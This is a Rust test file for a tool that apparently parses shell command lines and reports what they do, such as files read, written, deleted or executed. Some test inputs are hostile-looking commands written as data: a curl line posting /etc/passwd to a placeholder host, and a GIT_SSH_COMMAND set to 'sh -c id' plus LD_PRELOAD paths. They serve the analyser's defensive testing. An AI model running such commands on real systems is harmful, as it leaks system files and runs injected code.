//! What holds of reading any argv by any grammar.

use proptest::prelude::*;
use shellward::command::argv::{read, read_with, variable};
use shellward::command::{Invocation, grammar};
use shellward::source::{Place, Span, TextId};
use shellward::value::{Glob, Piece, Value, Why};

fn argv(words: &[&str]) -> Vec<Value> {
    let mut at = 0;
    words
        .iter()
        .map(|w| {
            let place = Place::new(TextId::ROOT, Span::new(at, at + w.len()));
            at += w.len() + 1;
            Value::literal(w.as_bytes(), place)
        })
        .collect()
}

fn unknown(name: &str, splits: bool) -> Value {
    let mut v = Value::unknown(Why::Environment(name.into()), Place::default());
    if let Some(Piece::Unknown(u)) = v.pieces.first_mut() {
        u.splits = splits;
    }
    v
}

/// Every byte range that an invocation mentions.
fn places(inv: &Invocation) -> Vec<Place> {
    let uses = inv.uses.iter().flat_map(|u| u.words.iter().map(Value::place).chain([u.value.place()]));
    let options = inv.options.iter().filter_map(|(_, v)| v.as_ref().map(Value::place));
    let rest = inv.operands.iter().map(Value::place).chain(inv.doubts.iter().map(|d| d.place));
    uses.chain(options).chain(rest).collect()
}

#[test]
fn values_keep_their_places() {
    let words = argv(&["curl", "-sSo/tmp/f", "--data=@/etc/passwd", "https://e.example/x"]);
    let inv = read(&words);
    let spans: Vec<(String, u32, u32)> =
        inv.uses.iter().map(|u| (u.value.show(), u.value.place().span.start, u.value.place().span.end)).collect();
    assert_eq!(
        spans,
        [("/tmp/f".to_owned(), 9, 15), ("/etc/passwd".to_owned(), 24, 35), ("https://e.example/x".to_owned(), 36, 55)]
    );
}

#[test]
fn command_words_are_read_as_files_where_they_are_no_system_programs() {
    let exec = |word: &str| {
        let inv = read(&argv(&[word, "x"]));
        (inv.name.clone(), inv.describe().iter().any(|l| l.starts_with("execute")))
    };
    assert_eq!(exec("/usr/bin/rm"), ("rm".into(), false));
    assert_eq!(exec("./rm"), ("rm".into(), true));
    assert_eq!(exec("/tmp/rm"), ("rm".into(), true));
    assert_eq!(exec("RM"), ("RM".into(), false));
    assert_eq!(read(&argv(&["RM", "x"])).describe(), ["delete x"]);
    assert_eq!(read(&argv(&["rm.exe", "x"])).describe(), ["delete x"]);
    assert!(read(&argv(&["no-such-program", "x"])).grammar.is_none());
}

#[test]
fn a_known_beginning_is_still_that_option() {
    let mut word = Value::literal(b"--output=", Place::default());
    word.push(unknown("F", false));
    let inv = read(&[argv(&["curl"]).remove(0), word]);
    assert_eq!(inv.describe(), ["write $F"]);
    assert!(inv.doubts.is_empty(), "{:?}", inv.doubts);
}

#[test]
fn words_that_may_be_options_are_doubts_where_that_matters() {
    let doubts = |words: Vec<Value>| read(&words).describe_doubts();
    let rm = argv(&["rm"]).remove(0);
    let read_in = || Value::unknown(Why::Stdin, Place::default());
    assert_eq!(doubts(vec![rm.clone(), read_in()]), ["unknown_value <standard input> may be an option"]);
    let dashes = argv(&["--"]).remove(0);
    assert!(doubts(vec![rm.clone(), dashes, read_in()]).is_empty());
    // Whoever sets a variable of the surroundings can set PATH as well.
    assert!(doubts(vec![rm, unknown("F", false)]).is_empty());
    // No option of cat changes what it does to files.
    let cat = argv(&["cat"]).remove(0);
    assert!(doubts(vec![cat, read_in()]).is_empty());
    // Letters that are known count, the rest is a doubt.
    let mut word = Value::literal(b"-r", Place::default());
    word.push(unknown("X", false));
    let inv = read(&[argv(&["rm"]).remove(0), word, argv(&["d"]).remove(0)]);
    assert_eq!(inv.describe(), ["delete d [recursive]"]);
    assert_eq!(inv.doubts.len(), 1);
}

#[test]
fn variables_in_front_of_a_command_mean_what_the_program_does_with_them() {
    let lines = |program: &str, name: &str, value: &str| {
        let v = Value::literal(value.as_bytes(), Place::default());
        variable(grammar::lookup(program), name, &v).map(|i| i.describe())
    };
    assert_eq!(lines("git", "GIT_SSH_COMMAND", "sh -c id"), Some(vec!["evaluate sh: sh -c id".into()]));
    assert_eq!(lines("ls", "LD_PRELOAD", "/a.so:/b.so"), Some(vec!["execute /a.so".into(), "execute /b.so".into()]));
    assert_eq!(lines("ls", "GIT_SSH_COMMAND", "x"), None);
}

#[test]
fn grammars_can_be_loaded_at_run_time() {
    let text = r#"
names = ["frob"]
source = "frob(1)"
argv = "gnu"
[[option]]
names = ["-o"]
value = "path.write"
[[operand]]
value = "path.read"
[stdio]
stdin = "ignored"
stdout = "nothing"
[[example]]
run = "frob a"
effects = ["read a"]
"#;
    let grammar = grammar::load(text).unwrap();
    assert_eq!(read_with(grammar, &argv(&["frob", "-ob", "a"])).describe(), ["write b", "read a"]);
    let problems = grammar::load(&text.replace("path.write", "path.wirte")).unwrap_err();
    assert_eq!(problems[0].line, 7);
    assert!(problems[0].reason.contains("path.wirte"));
}

#[test]
fn long_command_lines_take_linear_time() {
    // Each of these was or could be quadratic: a destination for every file, an effect for every name, a condition over
    // all options for every operand, nested commands, words that are not known.
    let many = |first: &[&str], again: &[&str]| {
        let mut words: Vec<&str> = first.to_vec();
        for _ in 0..20_000 {
            words.extend(again);
        }
        argv(&words)
    };
    for words in [
        many(&["cp"], &["a"]),
        many(&["docker", "rm"], &["c"]),
        many(&["tar"], &["-c", "f"]),
        many(&["find", "."], &["-exec", "ls", ";"]),
        many(&["curl"], &["-d", "x", "h"]),
        std::iter::once(argv(&["rm"]).remove(0)).chain((0..20_000).map(|_| unknown("X", true))).collect(),
    ] {
        let start = std::time::Instant::now();
        let inv = read(&words);
        assert!(inv.uses.len() >= 20_000);
        // A debug build takes 0.2 s for the longest of them, a quadratic one minutes.
        assert!(start.elapsed().as_secs() < 20, "{} took {:?}", words[0].show(), start.elapsed());
    }
}

/// Words that grammars know something about, and pieces of them.
fn word() -> impl Strategy<Value = Value> {
    let grammars: Vec<&'static grammar::Grammar> = grammar::all().collect();
    let mut texts: Vec<String> = vec![
        "--".into(),
        "-".into(),
        "".into(),
        "=".into(),
        "-=".into(),
        "--=".into(),
        "@f".into(),
        "a=b".into(),
        "ext::x".into(),
        "/".into(),
        "+".into(),
        "1".into(),
        ";".into(),
        "{}".into(),
        "https://e.example/x?y".into(),
        "é".into(),
        "-é".into(),
    ];
    for g in &grammars {
        texts.extend(g.names.iter().map(|n| (*n).to_owned()));
        texts.extend(g.top.options.iter().flat_map(|o| o.names.iter().map(|n| (*n).to_owned())));
        texts.extend(g.top.subs.iter().flat_map(|s| s.names.iter().map(|n| (*n).to_owned())));
    }
    let text = proptest::sample::select(texts);
    prop_oneof![
        6 => text.clone().prop_map(|t| Value::literal(t.as_bytes(), Place::default())),
        2 => (text.clone(), text.clone()).prop_map(|(a, b)| Value::literal(format!("{a}{b}").as_bytes(), Place::default())),
        1 => (text.clone(), any::<bool>()).prop_map(|(a, s)| {
            let mut v = Value::literal(a.as_bytes(), Place::default());
            v.push(unknown("X", s));
            v
        }),
        1 => any::<bool>().prop_map(|s| unknown("X", s)),
        1 => proptest::collection::vec(any::<u8>(), 0..6).prop_map(|b| Value::literal(&b, Place::default())),
        1 => text.prop_map(|t| {
            let mut v = Value::default();
            v.push_piece(Piece::Glob(Glob::Star, Place::default()));
            v.push(Value::literal(t.as_bytes(), Place::default()));
            v
        }),
    ]
}

/// The same words, each at a place of its own.
fn placed(words: Vec<Value>) -> Vec<Value> {
    let mut at = 0usize;
    words
        .into_iter()
        .map(|mut v| {
            for p in &mut v.pieces {
                let n = match p {
                    Piece::Literal(l) => l.bytes.len(),
                    _ => 1,
                };
                let place = Place::new(TextId::ROOT, Span::new(at, at + n));
                at += n;
                match p {
                    Piece::Literal(l) => (l.from, l.exact) = (place, true),
                    Piece::Unknown(u) => u.from = place,
                    Piece::Glob(_, from) => *from = place,
                    Piece::OneOf(_) => {}
                }
            }
            at += 1;
            v
        })
        .collect()
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 2_000, ..ProptestConfig::default() })]

    #[test]
    fn any_words_are_read_by_any_grammar(
        which in 0..grammar::all().count(),
        words in proptest::collection::vec(word(), 1..8),
    ) {
        let g = grammar::all().nth(which).unwrap();
        let words = placed(words);
        let inv = read_with(g, &words);
        // Every line can be written, and a second reading is the same.
        prop_assert_eq!(inv.describe(), read_with(g, &words).describe());
        // Every word that is not the command word is mentioned, or is an option without a value, a `--`, the name of a
        // sub-command or the end of a nested command.
        let seen = places(&inv);
        let touched = |p: Place| seen.iter().any(|q| q.text == p.text && q.span.start <= p.span.end && p.span.start <= q.span.end);
        for w in words.iter().skip(1) {
            let text = w.show();
            let sign = !text.starts_with(|c: char| c.is_alphanumeric());
            let sub = inv.subs.iter().any(|_| true);
            let bundle = g.top.style == grammar::model::Style::Bundle;
            prop_assert!(touched(w.place()) || sign || sub || bundle || text.is_empty(), "{} of {:?}", text, inv);
        }
    }
}
